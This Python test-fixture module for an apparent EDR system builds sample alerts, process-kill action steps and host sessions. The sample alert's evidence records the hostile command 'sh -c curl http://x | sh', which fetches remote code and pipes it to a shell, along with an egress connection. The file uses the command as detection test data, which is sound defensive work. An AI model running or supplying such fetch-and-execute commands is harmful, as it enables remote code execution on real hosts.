"""Alerts, steps of actions and host sessions as they come from the bus; each valid, for a test to break one thing."""

import itertools
import uuid
from typing import Any

from google.protobuf.message import Message

from microedr import headers
from microedr.v1.action_pb2 import ActionState, ActionType, ActionUpdate, ProcessTarget
from microedr.v1.detection_pb2 import Alert, Destination, Entities, Evidence, ProcessNode, RuleRef, Severity
from microedr.v1.event_pb2 import AgentEvent, NetConn, NetDirection, Process, ProcExec
from microedr.v1.transport_pb2 import HostSession, SessionState
from microedr_chassis.bus import topics
from microedr_chassis.bus.api import ConsumedRecord, Record

TENANT = "acme"
HOST = "host-a"
NOW_UNIX_NS = 1_800_000_000_000_000_000
PROCESS_UID = bytes(range(16))

_offsets = itertools.count()


def alert_uuid(number: int) -> str:
    """A UUID that sorts as its number."""
    return str(uuid.UUID(int=number))


def an_alert(number: int = 1, **changes: Any) -> Alert:
    """An alert about a shell; ``changes`` replace its fields."""
    rule = RuleRef(
        rule_id="R1001",
        title="Remote fetch piped to a shell",
        severity=Severity.SEVERITY_HIGH,
        confidence=0.95,
        tags=["attack.t1059.004"],
        builtin=True,
    )
    event = AgentEvent(
        event_id=uuid.UUID(int=number << 64).bytes,
        seqno=7,
        timestamp_unix_ns=NOW_UNIX_NS,
        process_uid=PROCESS_UID,
        process=Process(pid=4242, exe="/usr/bin/dash", cmdline="sh -c curl http://x | sh"),
        proc_exec=ProcExec(argv=["sh", "-c", "curl http://x | sh"]),
    )
    connection = AgentEvent(
        event_id=uuid.UUID(int=(number << 64) + 1).bytes,
        net_conn=NetConn(
            proto="tcp", direction=NetDirection.NET_DIRECTION_EGRESS, dst_ip=bytes([192, 0, 2, 7]), dst_port=80
        ),
    )
    fields: dict[str, Any] = {
        "alert_id": alert_uuid(number),
        "revision": 1,
        "tenant_id": TENANT,
        "host_id": HOST,
        "hostname": "web-1",
        "rule": rule,
        "title": "Remote fetch piped to a shell",
        "summary": "sh ran what curl fetched",
        "severity": Severity.SEVERITY_HIGH,
        "confidence": 0.95,
        "event_unix_ns": NOW_UNIX_NS,
        "last_event_unix_ns": NOW_UNIX_NS,
        "raised_unix_ns": NOW_UNIX_NS + number,
        "entities": Entities(
            pid=4242,
            process_uid=PROCESS_UID,
            exe="/usr/bin/dash",
            cmdline="sh -c curl http://x | sh",
            user="www-data",
            start_boot_ns=123_000_000,
            dst_ip="192.0.2.7",
            dst_port=80,
        ),
        "evidence": [Evidence(role="match", event=event), Evidence(role="destination", event=connection)],
        "ancestry": [ProcessNode(process_uid=PROCESS_UID, pid=4242, ppid=1, exe="/usr/bin/dash")],
        "destinations": [Destination(ip="192.0.2.7", port=80, proto="tcp", count=1)],
        "match_count": 1,
        "trace_id": "ab" * 16,
        "evidence_complete": True,
        "matched_fields": {"process.cmdline": "sh -c curl http://x | sh"},
    }
    return Alert(**{**fields, **changes})


def a_step(state: "ActionState.ValueType", number: int = 1, **changes: Any) -> ActionUpdate:
    """A step in the life of a kill of the alert's process."""
    fields: dict[str, Any] = {
        "action_id": str(uuid.UUID(int=1000 + number)),
        "tenant_id": TENANT,
        "host_id": HOST,
        "state": state,
        "at_unix_ns": NOW_UNIX_NS + int(state),
        "type": ActionType.ACTION_TYPE_KILL_PROCESS,
        "process": ProcessTarget(pid=4242, process_uid=PROCESS_UID, start_boot_ns=123_000_000, exe="/usr/bin/dash"),
        "alert_id": alert_uuid(1),
        "rule_id": "R1001",
        "actor": "service:actioner",
    }
    return ActionUpdate(**{**fields, **changes})


def a_session(**changes: Any) -> HostSession:
    """A host whose agent is connected and can respond."""
    fields: dict[str, Any] = {
        "tenant_id": TENANT,
        "host_id": HOST,
        "state": SessionState.SESSION_STATE_CONNECTED,
        "at_unix_ns": NOW_UNIX_NS,
        "hostname": "web-1",
        "os": "linux",
        "os_version": "Debian GNU/Linux 12 (bookworm)",
        "kernel_version": "6.1.0",
        "agent_version": "0.1.0",
        "collector": "ebpf",
        "boot_id": "b00t",
        "session_nonce": bytes(16),
        "ingest_id": "ingest-0",
    }
    return HostSession(**{**fields, **changes})


def topic_of(message: Message) -> str:
    """Where a message of this kind comes from."""
    if isinstance(message, Alert):
        return topics.ALERTS
    if isinstance(message, HostSession):
        return topics.HOSTS
    return topics.ACTIONS


def published(message: Message, *, tenant_id: str = TENANT, topic: str = "") -> Record:
    """``message`` as its service publishes it."""
    return Record(
        topic or topic_of(message),
        HOST.encode(),
        message.SerializeToString(),
        {headers.TENANT: tenant_id.encode(), headers.HOST: HOST.encode()},
    )


def consumed(message: Message, *, tenant_id: str = TENANT, topic: str = "") -> ConsumedRecord:
    """``message`` as the writer gets it."""
    record = published(message, tenant_id=tenant_id, topic=topic)
    return ConsumedRecord(record.topic, 0, next(_offsets), 0, record.key, record.value, dict(record.headers))
